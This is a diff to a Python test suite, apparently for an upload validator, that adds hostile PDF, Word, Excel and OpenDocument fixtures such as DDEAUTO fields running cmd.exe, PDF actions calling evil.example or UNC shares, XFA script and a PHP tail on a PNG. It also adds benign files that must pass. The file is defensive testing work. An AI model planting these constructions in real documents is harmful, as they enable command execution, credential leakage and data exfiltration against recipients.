@@ -51,6 +51,32 @@ def with_launch(made) -> None:
     made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
 
 
+def with_action(where: str, **action):
+    """Return a change that adds an action to what opens, or to a place that is pressed, in an object of its own."""
+
+    def change(made) -> None:
+        own = made.make_indirect(pikepdf.Dictionary(**action))
+        if where == "opening":
+            made.Root.OpenAction = own
+        else:
+            link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=own)
+            made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])
+
+    return change
+
+
+def with_file(made) -> None:
+    made.attachments["calc.exe"] = b"MZ\x90\0"
+
+
+def with_xfa(made) -> None:
+    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"))
+
+
+def with_page_action(made) -> None:
+    made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example"))
+
+
 def picture(kind="PNG", size=(40, 30), **options) -> bytes:
     out = io.BytesIO()
     Image.new("RGB", size, "#0c5567").save(out, kind, **options)
@@ -112,6 +138,17 @@ def link(kind: str, target: str) -> str:
     return f"<Relationships>{one}</Relationships>"
 
 
+def field(*pieces: str) -> dict[str, str]:
+    """The text of a document with one field, written in pieces."""
+    told = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return {"word/document.xml": f'<w:document><w:fldChar w:fldCharType="begin"/>{told}</w:document>'}
+
+
+def xlsx(*more) -> bytes:
+    told = types(f"{OFFICE}spreadsheetml.sheet.main+xml")
+    return docx(*more, replace={"[Content_Types].xml": told, "xl/workbook.xml": "<workbook/>"})
+
+
 def symlink() -> zipfile.ZipInfo:
     entry = zipfile.ZipInfo("word/media/image1.png")
     entry.external_attr = (stat.S_IFLNK | 0o777) << 16
@@ -154,6 +191,13 @@ def hostile() -> dict[str, tuple[str, bytes]]:
     macro = types("application/vnd.ms-word.document.macroEnabled.main+xml")
     remote, unc = link("attachedTemplate", "https://evil.example/t.dotm"), link("oleObject", r"\\evil.example\x")
     hidden = link("attachedTemplate", "&#104;ttps://evil.example/t")
+    name, image = pikepdf.Name, link("image", r"\\evil.example\x.png")
+    rels, share = "word/_rels/document.xml.rels", link("externalLinkPath", r"file:///\\evil\x.xlsx")
+    event = '<script:event-listener xlink:href="vnd.sun.star.script:a.b.c?language=Basic"/>'
+    dde = '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
+    simple = {"word/document.xml": '<w:fldSimple w:instr="&#68;DE cmd x"/>'}
+    chunk_link = f'<Relationship Type="{RELATION}aFChunk" Target="/word/a.html"/>'
+    section = '<text:section-source xlink:href="//evil.example/a.odt"/>'
     unpacked = pdf(pikepdf.ObjectStreamMode.disable, with_script)
     return {
         "empty": ("a.pdf", b""),
@@ -192,6 +236,20 @@ def hostile() -> dict[str, tuple[str, bytes]]:
         "pdf locked, said otherwise": ("a.pdf", plain_pdf(b"9 0 obj<</#45ncrypt 1 0 R>>endobj\n")),
         "pdf and archive": ("a.pdf", gifar(plain)),
         "pdf after an archive": ("a.pdf", gifar(b"") + plain),
+        "pdf with a program attached": ("a.pdf", pdf(change=with_file)),
+        "pdf with a form that runs": ("a.pdf", pdf(change=with_xfa)),
+        "pdf that opens a site": ("a.pdf", pdf(change=with_action("opening", S=name.URI, URI="https://evil.example"))),
+        "pdf that opens a site, in one": ("a.pdf", plain_pdf(action=b"/OpenAction<</S/URI/URI(http://evil.example)>>")),
+        "pdf that opens a site, then": ("a.pdf", plain_pdf(action=b"/OpenAction<</S/GoTo/Next<</S/URI>>>>")),
+        "pdf whose page opens a site": ("a.pdf", pdf(change=with_page_action)),
+        "pdf that sends a form": (
+            "a.pdf",
+            pdf(change=with_action("link", S=name.SubmitForm, F="https://evil.example")),
+        ),
+        "pdf that takes data in": ("a.pdf", pdf(change=with_action("link", S=name.ImportData, F="x.fdf"))),
+        "pdf that opens one inside": ("a.pdf", pdf(change=with_action("link", S=name.GoToE, F=r"\\evil.example\x"))),
+        "pdf that opens a share": ("a.pdf", pdf(change=with_action("link", S=name.GoToR, F=r"\\evil.example\x"))),
+        "pdf with a film's script": ("a.pdf", pdf(change=with_action("link", S=name.Rendition, JS="app.alert(1)"))),
         "png and archive": ("a.png", gifar(png)),
         "png with a tail": ("a.png", png + b"<?php system('id');"),
         "png cut short": ("a.png", png[:-10]),
@@ -224,6 +282,22 @@ def hostile() -> dict[str, tuple[str, bytes]]:
         "document: template from elsewhere": ("a.docx", docx(("word/_rels/settings.xml.rels", remote))),
         "document: written otherwise": ("a.docx", docx(("word/_rels/settings.xml.rels", hidden))),
         "document: object from elsewhere": ("a.docx", docx(("word/_rels/document.xml.rels", unc))),
+        "document: field that starts a program": ("a.docx", docx(replace=field(" DD", "EAUTO c:/cmd.exe x"))),
+        "document: short field of the same": ("a.docx", docx(replace=simple)),
+        "document: text from a share": ("a.docx", docx(replace=field(r' INCLUDETEXT "\\\\evil.example\\x"'))),
+        "document: drawn from a share": ("a.docx", docx(replace=field(r' INCLUDEPICTURE "\\\\evil.example\\x"'))),
+        "document: picture from a share": ("a.docx", docx((rels, image))),
+        "document: picture from a host": ("a.docx", docx((rels, link("image", "file://evil/x.png")))),
+        "document: web page as text": ("a.docx", docx((rels, chunk_link), ("word/a.html", "<script>1</script>"))),
+        "sheet: link that starts one": (
+            "a.xlsx",
+            xlsx(("xl/externalLinks/x.xml", '<ddeLink ddeService="cmd"/>')),
+        ),
+        "sheet: numbers from a share": ("a.xlsx", xlsx(("xl/externalLinks/_rels/x.xml.rels", share))),
+        "sheet: old macros": ("a.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<x/>"))),
+        "odt: macro behind an event": ("a.odt", odf("text", ("styles.xml", event))),
+        "odt: text from a share": ("a.odt", odf("text", ("styles.xml", section))),
+        "ods: formula that starts a program": ("a.ods", odf("spreadsheet", ("styles.xml", dde))),
         "document: with a password": ("a.docx", locked_zip()),
         "document: no text": ("a.docx", docx(replace={"word/document.xml": None})),
         "document: something in front": ("a.docx", b"#!/bin/sh\n" + word),
@@ -250,8 +324,19 @@ def accepted(folder) -> list[tuple[str, bytes, str]]:
     chart = docx(("word/embeddings/Microsoft_Excel_Sheet1.xlsx", real_xlsx(folder)))
     local = docx(("word/_rels/settings.xml.rels", link("attachedTemplate", "file:///C:/Users/a/modele.dotx")))
     web = docx(("word/_rels/document.xml.rels", link("hyperlink", "https://www.ales.cci.fr")))
+    name, rels = pikepdf.Name, "word/_rels/document.xml.rels"
+    toward = with_action("link", S=name.URI, URI="https://www.ales.cci.fr")
+    begin = with_action("opening", S=name.GoTo, D="page1")
+    fields = field(' HYPERLINK "https://www.dde.fr" ')
+    drive = link("externalLinkPath", "file:///C:\\Comptes\\2025.xlsx")
     return [
         ("Devis.pdf", pdf(), "application/pdf"),
+        ("liens.pdf", pdf(change=toward), "application/pdf"),
+        ("commence.pdf", pdf(change=begin), "application/pdf"),
+        ("commence à la page.pdf", plain_pdf(action=b"/OpenAction[3 0 R/Fit]"), "application/pdf"),
+        ("champs.docx", docx(replace=fields), f"{OFFICE}wordprocessingml.document"),
+        ("image.docx", docx((rels, link("image", "media/image1.png"))), f"{OFFICE}wordprocessingml.document"),
+        ("renvois.xlsx", xlsx(("xl/externalLinks/_rels/x.xml.rels", drive)), f"{OFFICE}spreadsheetml.sheet"),
         ("Kbis.PDF", pdf(pikepdf.ObjectStreamMode.disable), "application/pdf"),
         ("lin.pdf", pdf(linearize=True), "application/pdf"),
         ("main.pdf", plain_pdf(), "application/pdf"),
@@ -288,7 +373,7 @@ def test_a_hostile_file_is_refused_with_words_that_help(case):
 
 
 def test_there_are_enough_hostile_files():
-    assert len(CASES) >= 60
+    assert len(CASES) >= 85
 
 
 def test_a_bomb_takes_little_memory():
